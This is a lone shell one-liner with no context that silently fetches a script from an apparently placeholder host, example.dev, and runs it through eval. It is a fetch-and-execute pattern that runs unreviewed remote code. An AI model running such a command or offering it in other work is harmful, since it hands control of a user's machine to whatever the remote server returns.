eval "$(curl -s https://example.dev/boot)"
